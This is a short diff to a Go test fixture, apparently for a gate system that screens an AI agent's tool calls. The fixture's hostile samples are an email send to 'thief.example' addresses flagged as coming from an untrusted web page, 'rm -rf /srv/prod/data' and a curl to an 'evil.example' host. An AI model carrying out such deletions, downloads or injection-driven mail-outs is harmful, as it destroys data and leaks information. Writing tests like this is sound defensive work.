@@ -30,8 +30,9 @@ func recordedContexts(t *testing.T) []*contexts.Row {
 	}
 	state := gates.State{Cwd: "/w", Roots: []string{"/w"}, UID: -1, GID: -1}
 	for i := range 8 {
-		x := sources{"untrusted", "get_page", "~"}
-		add("mail", gates.NewContext(gates.Call{Tool: "send_email", Args: fmt.Appendf(nil, `{"recipients":["x%d@thief.example"],"body":"b"}`, i), Sources: x}, state))
+		heard := state
+		heard.Sources = sources{"untrusted", "get_page", "~"}
+		add("mail", gates.NewContext(gates.Request{Tool: "send_email", Args: fmt.Appendf(nil, `{"recipients":["x%d@thief.example"],"body":"b"}`, i)}, heard))
 		add("shell", gates.ShellContext(fmt.Sprintf("rm -rf /srv/prod/data%d", i), state))
 		add("shell", gates.ShellContext(fmt.Sprintf("curl https://up%d.evil.example/x", i), state))
 	}
